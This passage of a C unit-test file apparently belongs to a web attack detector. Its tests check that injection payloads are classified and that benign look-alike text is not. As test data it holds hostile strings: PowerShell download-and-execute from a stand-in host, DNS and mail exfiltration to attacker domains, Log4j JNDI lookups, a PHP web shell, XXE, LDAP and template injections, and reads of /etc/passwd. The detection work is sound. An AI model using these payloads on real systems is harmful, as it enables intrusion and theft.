/* The project's own payload lists (tests/data/web-payloads, written from the languages'
 * grammar and common attack techniques, not from the CRS tests the benchmark measures
 * on): every line must be read as its family once the normaliser has decoded it, as
 * a query parameter's value is. */
static void payload_file(const char *name, const char *family)
{
    const char *dir = getenv("FK_WEB_PAYLOADS");
    cr_assert_not_null(dir, "FK_WEB_PAYLOADS is set by meson");
    char path[1024];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    FILE *f = fopen(path, "r");
    cr_assert_not_null(f, "%s", path);
    char line[1024];
    int lines = 0, found = 0;
    while (fgets(line, sizeof line, f)) {
        size_t n = strcspn(line, "\n");
        line[n] = '\0';
        char value[1100];
        fk_normalise(line, n, FK_NORM_DEFAULT & ~(FK_NORM_PATH | FK_NORM_PLUS), value,
                     sizeof value);
        lines++;
        const char *got = families_of(value, FK_WS_PARAM);
        if (strstr(got, family))
            found++;
        else
            cr_log_error("%s: not read as %s: %s (got '%s')", name, family, line, got);
    }
    fclose(f);
    cr_assert_gt(lines, 30);
    cr_assert_eq(found, lines, "%s: %d of %d", name, found, lines);
}

Test(webstruct, the_projects_payload_lists)
{
    payload_file("sqli.txt", "sqli");
    payload_file("xss.txt", "xss");
    payload_file("rce.txt", "rce");
    payload_file("code.txt", "code");
}

Test(webstruct, cmd_if_reads_switches_and_parenthesised_conditions)
{
    cr_assert(shell("if/i a==b del x", FK_WS_PARAM));
    cr_assert(shell("if not (2 equ 2) echo hey", FK_WS_PARAM));
    cr_assert(shell("if ( %x% geq 15 ) echo big", FK_WS_PARAM));
    cr_assert_not(shell("if (you) are here", FK_WS_PARAM));
    cr_assert_not(shell("if/when possible", FK_WS_PARAM));
}

Test(webstruct, powershell_syntax)
{
    cr_assert(shell("x; iex (new-object net.webclient).downloadstring('http://e.example/a')",
                    FK_WS_PARAM));
    cr_assert(shell("[system.convert]::frombase64string('aWQ=')", FK_WS_PARAM));
    cr_assert(shell("new-object -comobject wscript.shell", FK_WS_PARAM));
    cr_assert_not(shell("see note [1]::2", FK_WS_PARAM));
    cr_assert_not(shell("a new-object approach", FK_WS_PARAM));
    /* cmdlets by their approved verb, used with a parameter, a variable or a pipe */
    cr_assert(shell("invoke-webrequest -uri http://e.example/a -outfile a.exe", FK_WS_PARAM));
    cr_assert(shell("x | out-file c:\\temp\\a.txt", FK_WS_PARAM));
    cr_assert(shell("remove-item $path", FK_WS_HEADER));
    cr_assert(shell(";start-process calc.exe", FK_WS_PARAM));
    cr_assert_not(shell("get-started -- a guide", FK_WS_PARAM));
    cr_assert_not(shell("/docs/how-to-set-up-sso", FK_WS_PATH));
    cr_assert_not(shell("the stop-over in dubai", FK_WS_PARAM));
}

Test(webstruct, shell_history_and_windows_arguments)
{
    cr_assert(shell("x;!!", FK_WS_PARAM));
    cr_assert(shell("a|!-2", FK_WS_PARAM));
    cr_assert(shell("x; !42 ", FK_WS_PARAM));
    cr_assert_not(shell("great;!!! loved it", FK_WS_PARAM));
    cr_assert_not(shell("wow!!", FK_WS_PARAM));
    cr_assert(shell("x& reg query hklm\\software\\microsoft", FK_WS_PARAM));
}

Test(webstruct, shell_here_strings_network_probes_and_cmd_variables)
{
    cr_assert(shell("x;bash<<<id", FK_WS_PARAM));
    cr_assert(shell("x;sh <<eof", FK_WS_PARAM));
    cr_assert(shell("x;nslookup attacker.example", FK_WS_PARAM));
    cr_assert(shell("x; dig x.oast.example", FK_WS_PARAM));
    cr_assert(shell("x;powershell get-process", FK_WS_PARAM));
    cr_assert(shell("x;echo %username%", FK_WS_PARAM));
    cr_assert(shell("x;net localgroup administrators", FK_WS_PARAM));
    /* a pipe into a word no system has is a title's punctuation */
    cr_assert_not(shell("top 10 movies | imdb", FK_WS_PARAM));
    cr_assert_not(shell("great; see example.com", FK_WS_PARAM));
    cr_assert_not(shell("we net user growth", FK_WS_PARAM));
    cr_assert_not(shell("50%off 20%", FK_WS_PARAM));
}

/* What the second and third payload sets' first runs showed the readers missing, each
 * by what the language or the tool documents; and text of the same look that is none. */
Test(webstruct, shell_forms_from_the_documentation)
{
    static const struct {
        const char *v;
        bool shell;
    } cases[] = {
        /* awk, sed and jq take a program in their own language, quoted, first */
        {"x;awk 'begin{print 1}'", true},
        {"x; sed 's/a/b/' notes", true},
        {"x|jq '.a'", true},
        {"x;gawk \"{print}\"", true},
        {"loved it; see 'the movie'", false},
        {"x;sed", false},
        {"x;awk 'unclosed", false},
        /* bash's $(< file) */
        {"$(<\"/etc/passwd\")", true},
        {"x$(< notes.txt)", true},
        {"x$(<)", false},
        /* a command assembled from variables the value set */
        {";a=i;b=d;$a$b", true},
        {"x;c=id;${c}", true},
        {"total;$a$b", false},
        {"ab=1;$ab2", false},
        /* wmic with an alias, dd with its operands */
        {"x& wmic process list brief", true},
        {"x;dd if=/etc/passwd", true},
        {"x& wmic processes are slow", false},
        {"yes;dd if you can", false},
        /* ssh(1), scp(1), rsync(1): a destination [user@]host[:path] */
        {"x;ssh-copy-id user@server", true},
        {"x;scp me@nas:/srv/a notes", true},
        {"x|rsync -a . backup@nas:", true},
        {"x;ssh root@10.0.0.5", true},
        {"x;ssh @home", false}, /* no user before '@', and no dotted name */
        {"x;ping me@", false},
        {"tags=a;b c@d", false},
        /* quote removal joins an argument's parts: '-'9 is -9 */
        {"kill '-'9", true},
        {"x;ls '-'la", true},
        {"x;cat \"/e\"tc/passwd", true},
        {"o'brien;smith 'jr'", false},
        {"rock;top \"hits\"", false},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        cr_expect_eq(shell(cases[i].v, FK_WS_PARAM), cases[i].shell, "%s", cases[i].v);
}

Test(webstruct, script_forms_from_the_documentation)
{
    static const struct {
        const char *v, *families;
    } cases[] = {
        {"+adw-script+ad4-alert(1)+adw-/script+ad4-", "xss"},
        {"c++adw-x", ""},
        {"<input autofocus ng-focus=$event.view.alert(1)>", "xss"},
        {"<p ng-bind=name>", ""},
        {"window['alert'](document.cookie)", "xss"},
        {"top[/al/.source+/ert/.source](1)", "xss"},
        {"self['al'+'ert'] (1)", "xss"},
        {"window['title'] is empty", ""},
        {"desktop[1](2)", ""},
        {"{\"constructor\":{\"prototype\":{\"admin\":true}}}", "code"},
        {"{\"constructor\":\"prototype\"}", ""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        cr_expect_str_eq(families_of(cases[i].v, FK_WS_PARAM), cases[i].families, "%s", cases[i].v);
}

/* Programs Debian reaches only through its alternatives (vim, cc, which, iptables,
 * traceroute) are commands like any other, and a long option is a shell argument as a
 * short one is; words and prose dashes stay words. */
Test(webstruct, alternatives_names_and_long_options)
{
    cr_assert(shell("x;vim -c ':!sh'", FK_WS_PARAM));
    cr_assert(shell("x;which -a nc", FK_WS_PARAM));
    cr_assert(shell("x;iptables -F", FK_WS_PARAM));
    cr_assert(shell("x;traceroute --icmp 192.0.2.1", FK_WS_PARAM));
    cr_assert(shell("x;cc --version", FK_WS_PARAM));
    cr_assert(shell("x;uname --all", FK_WS_PARAM));
    cr_assert(shell("x|mail -s x attacker@example.com", FK_WS_PARAM));
    cr_assert_not(shell("open the door", FK_WS_PARAM));
    cr_assert_not(shell("which one -- the red or the blue?", FK_WS_PARAM));
    cr_assert_not(shell("rename photos", FK_WS_PARAM));
    /* a name split by variables left unset, and one ended by $IFS */
    cr_assert(shell("x;n$u\\c$u -lvp 4444", FK_WS_PARAM));
    cr_assert(shell("x;c$x\\at /etc/hostname", FK_WS_PARAM));
    cr_assert(shell("x;cat$IFS/etc/hostname", FK_WS_PARAM));
    cr_assert_not(shell("total$amount is due", FK_WS_PARAM));
}

/* A JNDI lookup Log4j assembles from nested lookups whose values the text gives. */
Test(webstruct, log4j_lookups_spelt_in_pieces)
{
    static const char *const spelt[] = {
        "${:1337:-x$}{jndi:ldap://evil.example/a}", "${${env:nothing:-j}ndi:ldap://x.example/}",
        "${${k8s:x:-j}${date:x:-n}di:dns://x.example}", "${${lower:j}${upper:n}di:x}",
        "a ${${base64:x:-j}ndi:rmi://x.example} b"};
    for (size_t i = 0; i < sizeof spelt / sizeof spelt[0]; i++)
        cr_assert(strstr(families_of(spelt[i], FK_WS_PARAM), "code"), "%s: %s", spelt[i],
                  families_of(spelt[i], FK_WS_PARAM));
    /* padding before the lookup hides nothing */
    static char padded[6000];
    memset(padded, 'a', 5000);
    snprintf(padded + 5000, sizeof padded - 5000, " ${${x:-j}ndi:ldap://x.example/}");
    cr_assert(strstr(families_of(padded, FK_WS_PARAM), "code"));
    static const char *const not_jndi[] = {"price ${5} and ${total}", "${x:-y} jndi",
                                           "${${unknown}ndi:x}", "{jndi:x}"};
    for (size_t i = 0; i < sizeof not_jndi / sizeof not_jndi[0]; i++)
        cr_assert(strstr(families_of(not_jndi[i], FK_WS_PARAM), "code") == NULL, "%s", not_jndi[i]);
}

/* Script in JSFuck's six characters, whole or as a long stretch, '+' decoded or not. */
Test(webstruct, script_in_six_characters)
{
    cr_assert(xss("(![]+[])[+[]]", FK_WS_PARAM));
    cr_assert(xss("(![] [])[ !![]]", FK_WS_PARAM));
    cr_assert(xss("\";[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]]();//", FK_WS_PARAM));
    cr_assert_not(xss("wow!!! (great) [1]", FK_WS_PARAM));
    cr_assert_not(xss("![]", FK_WS_PARAM));
    cr_assert_not(xss("a+b (c)", FK_WS_PARAM));
}

Test(webstruct, file_reads_by_climbing_in_paths_and_headers)
{
    /* browsers resolve dot segments before they send a URL: one in a path is a tool's */
    cr_assert_str_eq(families_of("/static/../../etc/passwd", FK_WS_PATH), "lfi");
    cr_assert_str_eq(families_of("/img/../app/main.js", FK_WS_PATH), "lfi");
    cr_assert_str_eq(families_of("/etc/passwd", FK_WS_PATH), "sensitive");
    cr_assert_str_eq(families_of("/docs/v1..v2/diff", FK_WS_PATH), "");
    /* a header used as a file name (log poisoning, language files) */
    cr_assert_str_eq(families_of("../../../../etc/passwd", FK_WS_HEADER), "lfi");
    cr_assert_str_eq(families_of("mozilla/5.0 (x11) /etc/shadow", FK_WS_HEADER), "lfi");
    cr_assert_str_eq(
        families_of("mozilla/5.0 (compatible; examplebot/2.1; +http://www.example.com/bot.html)",
                    FK_WS_HEADER),
        "");
    cr_assert_str_eq(families_of("config.php.bak", FK_WS_HEADER), "");
    /* Windows paths written with backslashes */
    cr_assert_str_eq(families_of("c:\\windows\\system32\\drivers\\etc\\hosts", FK_WS_PARAM), "lfi");
}

Test(webstruct, java_class_files_and_sensitive_packages)
{
    cr_assert_str_eq(families_of("yv66vgaaadqaiqoabgaw", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("java.io.fileinputstream", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("x=javax.naming.initialcontext", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("/api/java/io/file.html", FK_WS_PATH), "");
    cr_assert_str_eq(families_of("myjava.io.site", FK_WS_PARAM), "");
    /* internals no client names: the JDK's Xalan, XWork's core, CORBA */
    cr_assert_str_eq(families_of("com.sun.org.apache", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("com.opensymphony.xwork2.actioncontext", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("org.omg.corba", FK_WS_PARAM), "code");
    /* the JDK's JNDI providers and unexported reflection, RMI and internal packages */
    cr_assert_str_eq(families_of("com.sun.jndi.rmi.registry.referencewrapper", FK_WS_PARAM),
                     "code");
    cr_assert_str_eq(families_of("sun.reflect.annotation.annotationinvocationhandler", FK_WS_PARAM),
                     "code");
    cr_assert_str_eq(families_of("jdk.internal.misc.unsafe", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("rising.sun.rmi.report", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("org.apache.commons", FK_WS_PARAM), "",
                     "a library's public name is what developers search for");
    cr_assert_str_eq(families_of("new java.net.urlclassloader(x)", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("x.defineclass(b)", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("templatesimpl with _bytecodes", FK_WS_PARAM), "code");
}

Test(webstruct, remote_includes_and_character_codes)
{
    cr_assert_str_eq(families_of("http://evil.example/shell.txt", FK_WS_PARAM), "rfi");
    cr_assert_str_eq(families_of("https://www.example.jp/robots.txt", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("http://203.0.113.9/x", FK_WS_PARAM), "rfi");
    cr_assert_str_eq(families_of("https://www.example.jp/index.php", FK_WS_PARAM), "");
    cr_assert(sqli("x' and 1=char(65,66,67)--", FK_WS_PARAM));
    cr_assert(sqli("char(83,69,76,69,67,84)", FK_WS_PARAM));
    cr_assert_not(sqli("char(1)", FK_WS_PARAM));
}

Test(webstruct, mysql_comments_fulltext_merge_and_numeric_contexts)
{
    cr_assert(sqli("/*!50000select*/ 1", FK_WS_PARAM));
    cr_assert(sqli("1 and match(title) against('x')", FK_WS_PARAM));
    cr_assert(sqli("merge into users using dual on (1=1)", FK_WS_PARAM));
    cr_assert(sqli("1 or 1#", FK_WS_PARAM));
    cr_assert(sqli("1 regexp '^a'", FK_WS_PARAM));
    cr_assert_not(sqli("/*! see the notes */", FK_WS_PARAM));
    cr_assert_not(sqli("match against the rivals", FK_WS_PARAM));
    cr_assert_not(sqli("merge into one", FK_WS_PARAM));
    cr_assert_not(sqli("1 or 2 rooms", FK_WS_PARAM));
    cr_assert(sqli("select pg_sleep", FK_WS_PARAM));
    cr_assert_not(sqli("select sleep number bed", FK_WS_PARAM));
    cr_assert(sqli("drop sampletable;--", FK_WS_PARAM));
    cr_assert_not(sqli("drop it; then -- ok", FK_WS_PARAM));
    cr_assert(shell(">/tmp/x", FK_WS_PARAM));
    cr_assert(shell("ls 2>&1", FK_WS_PARAM));
    cr_assert_not(shell("price > 100", FK_WS_PARAM));
}

Test(webstruct, sql_in_a_path_segment_but_not_in_a_slug)
{
    cr_assert_str_eq(families_of("/api/users/1' or '1'='1/orders", FK_WS_PATH), "sqli");
    cr_assert_str_eq(families_of("/item/1 union select user,pass from users--", FK_WS_PATH),
                     "sqli");
    cr_assert_str_eq(families_of("/item/1/**/union/**/select/**/1,2", FK_WS_PATH), "sqli");
    cr_assert_str_eq(families_of("/blog/how-to-select-a-laptop", FK_WS_PATH), "");
    cr_assert_str_eq(families_of("/tags/union-select-options/page/2", FK_WS_PATH), "");
    cr_assert_str_eq(families_of("/wiki/Don't_Stop_Me_Now", FK_WS_PATH), "");
}

Test(webstruct, php_in_a_header_by_what_only_php_writes)
{
    cr_assert_str_eq(families_of("<?php system($_GET['c']); ?>", FK_WS_HEADER), "code");
    cr_assert_str_eq(families_of("x $_server['http_host']", FK_WS_HEADER), "code");
    cr_assert_str_eq(families_of("phpinfo();", FK_WS_HEADER), "code");
    cr_assert_str_eq(families_of("o:8:\"stdclass\":0:{}", FK_WS_HEADER), "code");
    /* browsers' punctuation and words PHP also names are no code there */
    cr_assert_str_eq(families_of("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                                 "(KHTML, like Gecko) Chrome/124.0 Safari/537.36",
                                 FK_WS_HEADER),
                     "");
    cr_assert_str_eq(families_of("MyMail/2.1 (iPhone; iOS 17.4; file (2); copy (3))", FK_WS_HEADER),
                     "");
}

static int pair_families(const char *name, const char *v, unsigned where, char *out, size_t cap)
{
    static fams f;
    f.families[0] = '\0';
    int hits = fk_webstruct_scan_pair(ws, name, strlen(name), v, strlen(v), where, add_family, &f);
    snprintf(out, cap, "%s", f.families);
    return hits;
}

Test(webstruct, session_ids_in_links_and_cookies_set_by_a_request)
{
    char got[64];
    pair_families("phpsessid", "attacker1", FK_WS_PAIR_OWN_QUERY, got, sizeof got);
    cr_assert_str_eq(got, "session");
    pair_families("aspsessionidqasdtrcb", "x", FK_WS_PAIR_OWN_QUERY, got, sizeof got);
    cr_assert_str_eq(got, "session");
    pair_families("sessid", "8f14e45fceea167a5a36dedd4bea2543", FK_WS_PAIR_OWN_QUERY, got,
                  sizeof got);
    cr_assert_str_eq(got, "session");
    pair_families("session_id", "12", FK_WS_PAIR_OWN_QUERY, got, sizeof got); /* a survey's id */
    cr_assert_str_eq(got, "");
    /* phpBB's links and socket.io's polling carry a sid their own server issued */
    pair_families("sid", "8f14e45fceea167a5a36dedd4bea2543", FK_WS_PAIR_OWN_QUERY, got, sizeof got);
    cr_assert_str_eq(got, "");
    pair_families("phpsessid", "attacker1", 0, got, sizeof got); /* a Referer's */
    cr_assert_str_eq(got, "");
    /* Jupyter's kernel channels (/user/x/api/kernels/ID/channels?session_id=...): an
     * application's API calls carry ids of its own; a framework's cookie name still counts */
    pair_families("session_id", "8f14e45fceea167a5a36dedd4bea2543",
                  FK_WS_PAIR_OWN_QUERY | FK_WS_PAIR_API_CALL, got, sizeof got);
    cr_assert_str_eq(got, "");
    pair_families("jsessionid", "8F14E45FCEEA167A5A36DEDD4BEA2543",
                  FK_WS_PAIR_OWN_QUERY | FK_WS_PAIR_API_CALL, got, sizeof got);
    cr_assert_str_eq(got, "session");
    pair_families("page", "http://evil.example/x.txt", FK_WS_PAIR_OWN_QUERY, got, sizeof got);
    cr_assert_str_eq(got, "rfi");
    cr_assert_str_eq(families_of("<script>document.cookie=\"sessionid=1\"</script>", FK_WS_PARAM),
                     "xss,session");
    cr_assert_str_eq(families_of("<meta http-equiv=\"set-cookie\" content=\"a=b\">", FK_WS_PARAM),
                     "xss,session");
    cr_assert_str_eq(families_of("read document.cookie and the set-cookie header", FK_WS_PARAM),
                     "");
    cr_assert_str_eq(families_of("x.cookie='sid=1; path=/; domain=.example.com'", FK_WS_PARAM),
                     "session");
    cr_assert_str_eq(families_of("document.cookie ; domain=evil.example", FK_WS_PARAM), "session");
    cr_assert_str_eq(families_of("cookie; expires=friday", FK_WS_PARAM), "");
}

Test(webstruct, ldap_filters_and_xml_entities)
{
    static const char *const ldap[] = {"*)(uid=*))(|(uid=*", "admin)(&)", "x)(|(cn=*)",
                                       "*)(objectclass=*", "jdoe)(|(userpassword>=a)"};
    for (size_t i = 0; i < sizeof ldap / sizeof ldap[0]; i++)
        cr_assert_str_eq(families_of(ldap[i], FK_WS_PARAM), "ldap", "%s", ldap[i]);
    cr_assert_str_eq(families_of("(see note)(2)", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("smith (jr)", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("<?xml version=\"1.0\"?><!doctype r [<!entity x system "
                                 "\"http://evil.example/x\">]><r>&x;</r>",
                                 FK_WS_PARAM),
                     "xxe");
    cr_assert_str_eq(
        families_of("<!doctype r [<!entity % p system \"http://e.example/p.dtd\"> %p;]>",
                    FK_WS_HEADER),
        "xxe");
    cr_assert_str_eq(families_of("<x xmlns:xi=\"http://www.w3.org/2001/xinclude\"><xi:include "
                                 "href=\"file:///etc/passwd\"/></x>",
                                 FK_WS_PARAM),
                     "lfi,xxe");
    cr_assert_str_eq(families_of("<!entity copy \"&#169;\">", FK_WS_PARAM), "");
    /* an external DTD named by SYSTEM alone; a public DTD cited by its identifier */
    cr_assert_str_eq(families_of("<?xml version=\"1.0\"?><!doctype data system "
                                 "\"http://e.example/evil.dtd\"><data>&e;</data>",
                                 FK_WS_PARAM),
                     "xxe");
    cr_assert_str_eq(families_of("<!doctype plist public \"-//apple//dtd plist 1.0//en\" "
                                 "\"http://www.apple.com/dtds/propertylist-1.0.dtd\"><plist/>",
                                 FK_WS_PARAM),
                     "");
    /* entities nested in an entity (billion laughs); a document's abbreviations */
    cr_assert_str_eq(families_of("<!doctype l [<!entity a \"lol\"><!entity b "
                                 "\"&a;&a;&a;&a;\">]><l>&b;</l>",
                                 FK_WS_PARAM),
                     "xxe");
    cr_assert_str_eq(
        families_of("<!entity corp \"acme &amp; sons\"><!entity p \"&corp;\">", FK_WS_PARAM), "");
}

Test(webstruct, php_command_functions_given_a_bare_command)
{
    cr_assert_str_eq(families_of("system(whoami)", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("(system)(whoami)", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("passthru( id )", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("operating system(s)", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("file system(ext4)", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("system(linux) requirements", FK_WS_PARAM), "");
}

Test(webstruct, any_php_builtin_called_as_a_statement)
{
    cr_assert_str_eq(families_of("fputcsv($f, array('a'))", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("strlen('abc');", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("str_word_count ( 'x' ) ;", FK_WS_PARAM), "code");
    /* SQL and prose share the names: no statement, no variable, no PHP */
    cr_assert_str_eq(families_of("count(*)", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("the max(3,4) of it", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("price: us$5 (round(4.6))", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("obj.strlen(1);", FK_WS_PARAM), "");
}

Test(webstruct, node_modules_called_or_loaded)
{
    cr_assert_not_null(strstr(families_of("fs.readdirsync('.')", FK_WS_PARAM), "code"));
    cr_assert_not_null(strstr(families_of("x=os.userinfo()", FK_WS_PARAM), "code"));
    cr_assert_not_null(strstr(families_of("dns.lookup(\"example.org\")", FK_WS_PARAM), "code"));
    cr_assert_not_null(strstr(families_of("await import('./x.mjs')", FK_WS_PARAM), "code"));
    cr_assert_str_eq(families_of("see fs.md (draft)", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("www.os.example (home)", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("import (goods) and export", FK_WS_PARAM), "");
}

Test(webstruct, php_function_names_as_whole_values)
{
    cr_assert_str_eq(families_of("shell_exec", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("base64_decode", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("how to use base64_decode", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("shell_exec", FK_WS_PATH), "");
}

Test(webstruct, php_called_through_subscripts_and_groups)
{
    cr_assert_str_eq(families_of("[system][0](ls);", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("('system')[0]('id');", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("([passthru][0]){/* x */0}(ls);", FK_WS_PARAM), "code");
    /* a subscript of a word that names no PHP function is an ordinary index */
    cr_assert_str_eq(families_of("items[0](new)", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("(see [1]) (draft)", FK_WS_PARAM), "");
}

Test(webstruct, php_short_open_tags_by_what_xml_allows)
{
    cr_assert_str_eq(families_of("<?xml :echo 1;", FK_WS_PARAM), "code");
    cr_assert_not_null(strstr(families_of("<?xml\t();echo 1;", FK_WS_PARAM), "code"));
    cr_assert_str_eq(families_of("<? \techo test", FK_WS_PARAM), "code");
    /* an XML declaration or processing instruction is no PHP, nor is prose after <? */
    cr_assert_str_eq(families_of("<?xml version=\"1.0\"?><a/>", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("<?xml-stylesheet href=\"a.xsl\"?>", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("<? should not", FK_WS_PARAM), "");
}

/* GROUP BY's columns and a HAVING predicate; a file a command after a separator is aimed
 * at; the kernel's files under /proc by proc(5). Prose with the same words stays quiet. */
Test(webstruct, group_by_having_file_arguments_and_proc_files)
{
    cr_assert(sqli("1 group by id having 1=1", FK_WS_PARAM));
    cr_assert(sqli("x' group by users.id, name having count(*) > 1--", FK_WS_PARAM));
    cr_assert_not(sqli("photos grouped by date having fun", FK_WS_PARAM));
    cr_assert_not(sqli("sort group by name having count", FK_WS_PARAM));
    cr_assert(shell("1; cat notes.txt", FK_WS_PARAM));
    cr_assert(shell("x| sh run.SH", FK_WS_PARAM));
    cr_assert_not(shell("see below; more info.pdf", FK_WS_PARAM));
    cr_assert_not(shell("tea; less sugar", FK_WS_PARAM));
    cr_assert_str_eq(families_of("/proc/interrupts", FK_WS_PARAM), "lfi");
    cr_assert_str_eq(families_of("/download/proc/kallsyms", FK_WS_PATH), "sensitive");
    cr_assert_str_eq(families_of("/docs/process/overview", FK_WS_PATH), "");
}

/* Code between Markdown's fences in free text is an example a person shares; outside
 * them, or in a parameter that is no free text, it counts where something evaluates it
 * (FK_WS_BREAK_CODE). */
Test(webstruct, code_between_markdown_fences_in_free_text_is_an_example)
{
    static const char fenced[] = "```php\n<?php system($_GET['c']); ?>\n```\nworks for me.";
    cr_assert_str_eq(families_of(fenced, FK_WS_TEXT), "");
    cr_assert_str_neq(families_of(fenced, FK_WS_PARAM), "");
    cr_assert_str_neq(families_of("<?php system($_GET['c']); ?>", FK_WS_TEXT), "");
    /* only the fenced text is an example: code after the fences still counts */
    cr_assert_str_eq(families_of("```\nhello\n```\n<?php system($_GET['c']); ?>", FK_WS_TEXT),
                     "code");
}

/* Code a person searched for or wrote about, which nothing evaluates, is words in free
 * text; a template's or an expression language's delimiter, or a quote at the head,
 * makes it code. Elsewhere code counts without them. */
Test(webstruct, code_in_free_text_needs_what_evaluates_it)
{
    static const char *const words[] = {"runtime.getruntime().exec",
                                        "python subprocess.run(['ls', '-l'])",
                                        "import subprocess\nsubprocess.run(['ls', '-la'])", NULL};
    for (int i = 0; words[i]; i++) {
        cr_assert_str_eq(families_of(words[i], FK_WS_TEXT), "", "%s", words[i]);
        cr_assert_str_neq(families_of(words[i], FK_WS_PARAM), "", "%s", words[i]);
    }
    cr_assert_str_neq(families_of("${t(java.lang.runtime).getruntime().exec('id')}", FK_WS_TEXT),
                      "");
    cr_assert_str_neq(families_of("{{ ''.__class__.__mro__[1].__subclasses__() }}", FK_WS_TEXT),
                      "");
    cr_assert(fk_webstruct_text_breaks("x'; require('child_process').exec('id')//", 41) &
              FK_WS_BREAK_CODE);
    cr_assert_not(fk_webstruct_text_breaks("php echo $_GET", 14) & FK_WS_BREAK_CODE);
}

/* A search service's filter syntax (Typesense's field:>100, backticks quoting a list's
 * names), names that compound a free-text word, and a question about paths: what the
 * eighth held-out set showed. The same operators and substitutions still count where
 * SQL and a shell read them. */
Test(webstruct, search_filters_compound_names_and_questions_about_paths)
{
    cr_assert_not(sqli("publication_year:>=2000 && ratings_count:>100", FK_WS_PARAM));
    cr_assert(sqli("1' ->>'a'", FK_WS_PARAM));
    cr_assert(sqli("x' #>'{a,b}'", FK_WS_PARAM));
    cr_assert_not(shell("authors:=[`haruki murakami`, `banana yoshimoto`]", FK_WS_PARAM));
    cr_assert(shell("a;`banana`", FK_WS_PARAM));
    cr_assert(shell("[`id`];`id`", FK_WS_PARAM));
    cr_assert(shell("`id`", FK_WS_PARAM));
    static const char *const text[] = {"searchtext",  "search_text", "usercomment", "filter[title]",
                                       "issue.notes", "messagebody", NULL};
    for (int i = 0; text[i]; i++)
        cr_assert_eq(fk_webstruct_param_field(text[i], strlen(text[i])), FK_WS_TEXT, "%s", text[i]);
    static const char *const other[] = {"context",  "password",    "searchid", "subtitle",
                                        "sqlquery", "contenttype", "q[name]",  NULL};
    for (int i = 0; other[i]; i++)
        cr_assert_eq(fk_webstruct_param_field(other[i], strlen(other[i])), FK_WS_PARAM, "%s",
                     other[i]);
    cr_assert_not(fk_webstruct_text_breaks("../ relative path", 17) & FK_WS_BREAK_PATH);
    cr_assert(fk_webstruct_text_breaks("../../etc/passwd", 16) & FK_WS_BREAK_PATH);
    cr_assert(fk_webstruct_text_breaks("../../", 6) & FK_WS_BREAK_PATH);
}

/* What the sixth held-out body set showed: an exception's class is what a report names,
 * a stack trace is a report's shape, and Jira's and BBCode's code blocks are examples
 * like Markdown's. */
Test(webstruct, crash_reports_and_code_blocks_of_other_markups)
{
    cr_assert_str_eq(
        families_of("java.lang.illegalstateexception: fragment not attached", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("java.lang.outofmemoryerror", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("java.lang.runtime", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("@java.lang.processbuilder@new", FK_WS_PARAM), "code");
    static const char *const traces[] = {
        "at a.B.c(B.java:12)\nat a.B.d(B.java:40)",
        "[\"at androidx.Fragment.requireContext(Fragment.java:972)\", \"at x.Y(Unknown Source)\"]",
        "File \\\"/srv/app/m.py\\\", line 22, in <module>\\n  File \\\"/srv/x.py\\\", line 4, in f",
        "at fn (https://app.example.jp/main.js:1:2345)\n at g (main.js:2:10)",
        "#0 /var/www/a.php(42): f()\n#1 /var/www/b.php(7): g()",
        NULL};
    for (int i = 0; traces[i]; i++)
        cr_assert(fk_webstruct_stack_trace(traces[i], strlen(traces[i])), "%s", traces[i]);
    static const char *const not_traces[] = {
        "see (http://example.com:8080) and (https://example.org:443)", "at home (3:00)",
        "at a.B.c(B.java:12)", "page 3, line four", NULL};
    for (int i = 0; not_traces[i]; i++)
        cr_assert_not(fk_webstruct_stack_trace(not_traces[i], strlen(not_traces[i])), "%s",
                      not_traces[i]);
    static const char jira[] = "{code:bash}\nfind /var/log/app -name '*.gz' -mtime +30 -exec rm {} "
                               "\\;\n{code}\nrun weekly.";
    cr_assert_not(fk_webstruct_text_breaks(jira, strlen(jira)) & FK_WS_BREAK_SHELL);
    cr_assert(fk_webstruct_text_breaks("x\n{code}\nrm -rf /", 17) & FK_WS_BREAK_SHELL);
    /* the marker is skipped, not the text after it: a separator heading the block counts */
    cr_assert(fk_webstruct_text_breaks("{code}\n;id", strlen("{code}\n;id")) & FK_WS_BREAK_SHELL);
    cr_assert_not(fk_webstruct_text_breaks("{code:bash}\nls -la\n{code}",
                                           strlen("{code:bash}\nls -la\n{code}")) &
                  FK_WS_BREAK_SHELL);
